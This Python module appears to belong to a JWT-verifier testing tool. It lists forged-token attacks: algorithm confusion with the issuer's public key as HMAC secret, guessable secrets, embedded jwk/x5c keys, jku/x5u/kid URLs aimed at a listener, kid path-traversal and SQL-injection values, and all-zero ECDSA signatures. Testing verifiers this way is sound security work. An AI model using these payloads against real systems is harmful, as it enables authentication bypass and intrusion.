"""Attacks on how the verifier comes by its key.

The issuer's public key taken for a shared secret, secrets that anybody guesses, keys
that the token brings along or points at, key ids that reach into the server, and the
ECDSA signature that every faulty verifier accepts.
"""

from __future__ import annotations

import base64
import datetime
from collections.abc import Callable
from urllib.parse import quote, urlsplit

from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.x509.oid import NameOID

from tollproof.identity import attack as a
from tollproof.identity.attack import Attack, Material, Needs, Unsuited
from tollproof.identity.forge import public_jwk

__all__ = ["KEY_ATTACKS", "own_certificate"]

# -- a public key taken for a secret -------------------------------------------------

_SPELLINGS = (
    "PEM",
    "PEM without its final newline",
    "PEM without newlines",
    "PEM with CRLF",
    "DER",
    "PKCS #1 PEM",
    "PKCS #1 PEM without its final newline",
    "JWK",
    "the JWK's n in base64url",
    "the JWK's n in bytes",
    "the JWK's x in base64url",
    "the JWK's x in bytes",
    "the certificate",
    "the certificate without its final newline",
)

_CONFUSION = tuple(
    Attack(
        name=f"{algorithm} with the public key as {spelling}",
        group="algorithm-confusion",
        wrong=f"whose {algorithm} secret is the issuer's public key: {spelling}",
        needs=Needs.PUBLIC_KEY,
        header={"alg": algorithm},
        signature=a.keyed(a.public_key_as(spelling), algorithm),
    )
    for algorithm, spellings in (
        ("HS256", _SPELLINGS),
        ("HS384", _SPELLINGS[:2]),
        ("HS512", _SPELLINGS[:2]),
    )
    for spelling in spellings
)

_SECRETS: tuple[tuple[str, bytes | Callable[[Material], bytes]], ...] = (
    ("empty", b""),
    ("a zero byte", b"\0"),
    ('"secret"', b"secret"),
    ('"password"', b"password"),
    ('"changeme"', b"changeme"),
    ('"your-256-bit-secret"', b"your-256-bit-secret"),
    ('"secret-key"', b"secret-key"),
    ('"null"', b"null"),
    ("its own kid", lambda m: str(m.parts.header.get("kid", "kid")).encode()),
    ("its own issuer", lambda m: str(m.claims.get("iss", "iss")).encode()),
)

_WEAK = tuple(
    Attack(
        name=f"HS256 secret {name}",
        group="weak-secret",
        wrong=f"signed with HS256 and the secret {name}",
        header={"alg": "HS256"},
        signature=a.keyed(secret),
    )
    for name, secret in _SECRETS
)

# -- the token brings its own key ----------------------------------------------------


def _own_jwk(material: Material) -> dict[str, str]:
    return public_jwk(material.own.public, material.own.key_id)


def own_certificate(material: Material) -> list[str]:
    """Return a certificate of our own key, self-signed, as `x5c` writes it."""
    start = datetime.datetime.fromtimestamp(material.now, datetime.UTC)
    private = material.own.private
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "tollproof")])
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(material.own.public)
        .serial_number(1)
        .not_valid_before(start - datetime.timedelta(days=1))
        .not_valid_after(start + datetime.timedelta(days=1))
        .sign(private, None if isinstance(private, Ed25519PrivateKey) else SHA256())
    )
    return [
        base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()
    ]


_EMBEDDED = (
    Attack(
        name="embedded jwk",
        group="embedded-key",
        wrong="that brings along, as jwk, the key it is signed with",
        needs=Needs.OWN_KEY,
        header={"jwk": _own_jwk},
        signature=a.own,
    ),
    Attack(
        name="embedded jwk under its own kid",
        group="embedded-key",
        wrong="that brings along, as jwk and by its kid, the key it is signed with",
        needs=Needs.OWN_KEY,
        header={"jwk": _own_jwk, "kid": lambda m: m.own.key_id},
        signature=a.own,
    ),
    Attack(
        name="embedded x5c",
        group="embedded-key",
        wrong="that brings along, as x5c, a certificate of the key it is signed with",
        needs=Needs.OWN_KEY,
        header={"x5c": own_certificate},
        signature=a.own,
    ),
)

# -- the token points at a key -------------------------------------------------------


def _listening(path: str) -> Callable[[Material], str]:
    def url(material: Material) -> str:
        if not material.listener:
            raise Unsuited("there is no listener that the target could call")
        return material.listener + path

    return url


def _with_issuer_as_user(material: Material) -> str:
    """Return a URL that begins like the issuer's and leads to the listener."""
    listener = urlsplit(_listening("")(material))
    issuer = urlsplit(str(material.claims.get("iss", "")))
    name = issuer.netloc or "issuer.example"
    return f"{listener.scheme}://{quote(name)}@{listener.netloc}/jwks/user"


_KEY_URLS = (
    Attack(
        name="jku",
        group="key-url",
        wrong="whose jku points at keys of ours",
        needs=Needs.OWN_KEY,
        header={"jku": _listening("/jwks/jku"), "kid": lambda m: m.own.key_id},
        signature=a.own,
    ),
    Attack(
        name="jku that begins like the issuer",
        group="key-url",
        wrong="whose jku begins like the issuer's and points at keys of ours",
        needs=Needs.OWN_KEY,
        header={"jku": _with_issuer_as_user, "kid": lambda m: m.own.key_id},
        signature=a.own,
    ),
    Attack(
        name="x5u",
        group="key-url",
        wrong="whose x5u points at a certificate of ours",
        needs=Needs.OWN_KEY,
        header={"x5u": _listening("/x5u/chain"), "kid": lambda m: m.own.key_id},
        signature=a.own,
    ),
    Attack(
        name="kid that is a URL",
        group="key-url",
        wrong="whose kid is the URL of keys of ours",
        needs=Needs.OWN_KEY,
        header={"kid": _listening("/jwks/kid")},
        signature=a.own,
    ),
)

# -- the key id reaches into the server ----------------------------------------------

_UP = "../../../../../../../../.."

_KEY_IDS = tuple(
    Attack(
        name=f"kid {name}",
        group="key-id",
        wrong=f"whose kid is {name}, keyed with what a server finds there",
        header={"alg": "HS256", "kid": kid},
        signature=a.keyed(secret),
    )
    for name, kid, secret in (
        ("of an empty file", f"{_UP}/dev/null", b""),
        ("of an empty file, absolute", "/dev/null", b""),
        ("of an empty file, encoded", "..%2f" * 9 + "dev%2fnull", b""),
        ("of an empty file, cut by a zero byte", f"{_UP}/dev/null\0.pem", b""),
        ("of a known file", f"{_UP}/proc/sys/kernel/randomize_va_space", b"2\n"),
        ("an SQL union", "x' UNION SELECT 'tollproof' -- ", b"tollproof"),
        (
            "an SQL union in double quotes",
            'x" UNION SELECT "tollproof" -- ',
            b"tollproof",
        ),
        ("empty", "", b""),
    )
)

# -- a signature of zeros --------------------------------------------------------------

_ORDER_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def _zeros(length: int) -> a.Signer:
    return lambda material, data: bytes(length)


_ZERO_SIGNATURES = (
    *(
        Attack(
            name=f"{algorithm} with r = s = 0",
            group="zero-signature",
            wrong=f"whose {algorithm} signature is r = 0, s = 0",
            header={"alg": algorithm},
            signature=_zeros(length),
        )
        for algorithm, length in (("ES256", 64), ("ES384", 96), ("ES512", 132))
    ),
    Attack(
        name="ES256 with r = s = 0 in DER",
        group="zero-signature",
        wrong="whose ES256 signature is r = 0, s = 0, in DER",
        header={"alg": "ES256"},
        signature=lambda material, data: bytes.fromhex("3006020100020100"),
    ),
    Attack(
        name="ES256 with r = s = n",
        group="zero-signature",
        wrong="whose ES256 signature is the order of the curve, twice",
        header={"alg": "ES256"},
        signature=lambda material, data: _ORDER_P256.to_bytes(32, "big") * 2,
    ),
)

KEY_ATTACKS = (
    *_CONFUSION,
    *_WEAK,
    *_EMBEDDED,
    *_KEY_URLS,
    *_KEY_IDS,
    *_ZERO_SIGNATURES,
)
